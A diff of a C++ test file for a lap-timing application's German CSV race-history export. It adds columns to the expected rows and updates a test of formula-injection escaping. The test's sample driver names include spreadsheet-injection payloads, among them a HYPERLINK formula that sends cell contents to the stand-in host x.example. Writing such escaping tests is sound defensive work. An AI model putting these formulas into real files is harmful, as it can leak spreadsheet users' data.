@@ -53,18 +53,18 @@ TEST(Verlaufsexport, CsvOeffnetSichInDeutschenTabellenprogrammenWieEsIst) {
     const QByteArray erwartet =
         "\xEF\xBB\xBF"
         "Rennen;Datum;Modus;Lauf;Spur;Fahrer;Runde;Zeit (s);Geschwindigkeit (m/s);Handrunde;"
-        "Hinweis\r\n"
+        "Rennart;Renndauer (s);Zielregel;Distanz (Runden);Hinweis\r\n"
         "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;1;\"J\xC3\xBCrgen \"\"Blitz\"\"; \xC3\x96\";1;"
-        "3,250;1,538;nein;\r\n"
+        "3,250;1,538;nein;Runden;;;;\r\n"
         "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;1;\"J\xC3\xBCrgen \"\"Blitz\"\"; \xC3\x96\";2;"
-        "2,500;2,000;nein;\r\n"
-        "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;2;\"Zeile\nzwei\";1;4,000;1,250;ja;\r\n";
+        "2,500;2,000;nein;Runden;;;;\r\n"
+        "1;01.05.2026 14:03:22;Rennen, abgebrochen;1;2;\"Zeile\nzwei\";1;4,000;1,250;ja;Runden;;;;\r\n";
     EXPECT_TRUE(csv.startsWith(erwartet)) << csv.left(600).toStdString();
     const QList<QByteArray> rest = csv.mid(erwartet.size()).split('\n');
     ASSERT_EQ(rest.size(), 5) << "four laps of race 2, and the end";
-    EXPECT_EQ(rest[1], "2;01.05.2026 14:03:22;Spurwechsel;1;2;" + o.lang.toUtf8() +
-                           ";1;3,000;1,667;nein;\r");
-    EXPECT_EQ(rest[3], "2;01.05.2026 14:03:22;Spurwechsel;2;2;Anna;1;3,000;1,667;nein;\r");
+    EXPECT_EQ(rest[1],
+              "2;01.05.2026 14:03:22;Spurwechsel;1;2;" + o.lang.toUtf8() + ";1;3,000;1,667;nein;Runden;;;;\r");
+    EXPECT_EQ(rest[3], "2;01.05.2026 14:03:22;Spurwechsel;2;2;Anna;1;3,000;1,667;nein;Runden;;;;\r");
 
     EXPECT_EQ(o.exportieren(QStringLiteral("eins.csv"), 2).count('\n'), 5) << "one race alone";
 }
@@ -162,7 +162,7 @@ TEST(Verlaufsexport, CsvZelleDieWieEineFormelBeginntBleibtText) {
     const QString csv = QString::fromUtf8(datei.readAll());
     QStringList fahrer;
     for (const QString& zeile : csv.split(QStringLiteral("\r\n")).mid(1, namen.size()))
-        fahrer << zeile.section(QLatin1Char(';'), 5, -6);
+        fahrer << zeile.section(QLatin1Char(';'), 5, -10);
     EXPECT_EQ(fahrer, (QStringList{"'=1+2", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"",
                                    "'+49 170", "'@SUMME(A1)", "'\tTab", "\"'\rWagen\"", "'-Minus",
                                    "'-", "-5 Runden", "Anna-Lena =1"}));
